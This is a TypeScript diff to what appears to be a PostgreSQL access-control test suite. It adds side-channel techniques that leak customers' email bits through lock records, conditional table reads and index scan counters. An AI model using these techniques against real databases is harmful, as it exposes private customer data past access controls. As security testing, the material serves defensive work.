@@ -180,6 +180,16 @@ const serializable = (begin: readonly string[], another: boolean, block = false)
   }
 });
 
+/** Names of the relations that are locked, each of a bit that is set, of sixteen customers from `id` on. */
+function spellLocked(attacker: Attacker, id: number, names: readonly (readonly unknown[])[]): void {
+  const hashes = new Map<number, bigint>();
+  for (const [name] of names) {
+    const bit = Number(String(name).slice(2));
+    hashes.set(id + (bit >> 5), (hashes.get(id + (bit >> 5)) ?? 0n) | (1n << BigInt(31 - (bit & 31))));
+  }
+  for (const [customer, hash] of hashes) attacker.decoded += token(customer, hash.toString(16));
+}
+
 /** Sixteen customers at a time: which of the relations `r_0 ... r_511` the transaction has locked is theirs. */
 const lockedByName = (make: (i: number) => string, before: string | undefined, touch: (name: string) => string): Technique => afresh(async (attacker) => {
   const client = await attacker.connect();
@@ -190,13 +200,36 @@ const lockedByName = (make: (i: number) => string, before: string | undefined, t
     await client.query(`SELECT count(${touch(`'r_' || (32 * (c.id - ${id}) + n)`)}) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 16} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
     const names = rowsOf(await client.query(`SELECT DISTINCT relname FROM pg_locks l JOIN pg_class r ON r.oid = l.relation WHERE l.pid = pg_backend_pid() AND relname LIKE 'r\\_%'`));
     await client.query('ROLLBACK');
-    const hashes = new Map<number, bigint>();
-    for (const [name] of names) {
-      const bit = Number(String(name).slice(2));
-      hashes.set(id + (bit >> 5), (hashes.get(id + (bit >> 5)) ?? 0n) | (1n << BigInt(31 - (bit & 31))));
-    }
-    for (const [customer, hash] of hashes) attacker.decoded += token(customer, hash.toString(16));
+    spellLocked(attacker, id, names);
   }
+});
+
+/** Each bit of sixteen customers decides whether a block looks into a table, and so locks it. */
+const readByBranches: Technique = afresh(async (attacker) => {
+  const client = await attacker.connect();
+  await client.query(Array.from({ length: 512 }, (_, i) => `CREATE TEMP TABLE r_${i} ()`).join(';'), 60_000);
+  for (let id = 1; id <= CUSTOMERS; id += 16) {
+    const branch = (_: unknown, i: number): string => `IF (SELECT get_bit(('x' || right(c.email, 8))::bit(32), ${i & 31}) FROM crm.customers c WHERE id = ${id + (i >> 5)}) = 1 THEN PERFORM 1 FROM r_${i}; END IF;`;
+    await client.query('BEGIN');
+    await client.query(`DO $$ BEGIN ${Array.from({ length: 512 }, branch).join('\n')} END $$`, 60_000);
+    spellLocked(attacker, id, rowsOf(await client.query(`SELECT DISTINCT relname FROM pg_locks l JOIN pg_class r ON r.oid = l.relation WHERE l.pid = pg_backend_pid() AND relname LIKE 'r\\_%'`)));
+    await client.query('ROLLBACK');
+  }
+});
+
+/** A table that has an index for each digit from its beginning, in the same transaction. */
+const keysOfOwn: Technique = afresh(async (attacker) => {
+  const { own } = attacker;
+  const client = await attacker.connect();
+  const keys = Array.from({ length: 4 * CUSTOMERS }, (_, i) => i + 4);
+  await client.query(`${PLAIN}; SET enable_seqscan = off; SET enable_bitmapscan = off`);
+  await client.query('BEGIN');
+  await client.query(`CREATE TABLE public.${own} (${keys.map((key) => `c${key} int CONSTRAINT ${own}_${key} UNIQUE`).join(', ')})`, 60_000);
+  const branch = (key: number): string => `WHEN ${key} THEN (SELECT count(*) FROM public.${own} WHERE c${key} = d.g)`;
+  await client.query(`SELECT count(CASE d.k ${keys.map(branch).join(' ')} END) FROM (SELECT 4 * c.id + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${CUSTOMERS}) d`, 80_000);
+  await client.query('COMMIT');
+  await flushed(client);
+  spell(attacker, byKey(rowsOf(await client.query(`SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname = '${own}'`))));
 });
 
 for (const role of ['agent', 'lax'] as const) {
@@ -207,6 +240,7 @@ for (const role of ['agent', 'lax'] as const) {
     bookkeeping.attack('how many rows of each partition were read, pg_stat_get_tuples_returned', counted((own) => numscans(own).replace('numscans', 'tuples_returned'), { row: true }), role);
     bookkeeping.attack('read by another session', counted(tables, { another: true }), role);
     bookkeeping.attack('how often each index of one table was scanned, pg_stat_user_indexes', manyIndexes, role);
+    bookkeeping.attack('indexes of a table of the same transaction', keysOfOwn, role);
     bookkeeping.attack('how often tables of the system were scanned, pg_stat_sys_tables', systemCatalogs, role);
     bookkeeping.attack('a cursor that was opened before', earlierCursor, role);
     bookkeeping.attack('rows that were on their way before', underWay, role);
@@ -223,7 +257,10 @@ for (const role of ['agent', 'lax'] as const) {
     bookkeeping.attack('tables that the row names, pg_partition_tree', lockedByName((i) => `CREATE TEMP TABLE tr_${i} (a int) PARTITION BY LIST (a); CREATE TEMP TABLE r_${i} PARTITION OF tr_${i} DEFAULT`, undefined, (name) => `(SELECT max(level) FROM pg_partition_tree(('t' || ${name})::regclass))`), role);
     bookkeeping.attack('views that the row names, pg_get_viewdef', lockedByName((i) => `CREATE TEMP TABLE r_${i} (a int); CREATE TEMP VIEW vr_${i} AS SELECT a FROM r_${i}`, undefined, (name) => `length(pg_get_viewdef(('v' || ${name})::regclass))`), role);
   });
-  if (role === 'lax') bookkeeping.group('locks of code', 'side doors', () => bookkeeping.attack('SIReadLock of a block that begins a transaction', serializable(['BEGIN ISOLATION LEVEL SERIALIZABLE', 'SELECT count(*) FROM pg_am'], true, true), role));
+  bookkeeping.group(`locks of code, ${role}`, 'side doors', () => {
+    bookkeeping.attack('SIReadLock of a block that begins a transaction', serializable(['BEGIN ISOLATION LEVEL SERIALIZABLE', 'SELECT count(*) FROM pg_am'], true, true), role);
+    bookkeeping.attack('tables that a block looks into if a bit is set', readByBranches, role);
+  });
   bookkeepingApart.group(`by way of another process, ${role}`, 'side doors', () => {
     bookkeepingApart.attack('counters, pg_stat_user_tables', counted(tables, { another: true }), role);
     bookkeepingApart.attack('a cursor that was opened before', earlierCursor, role);
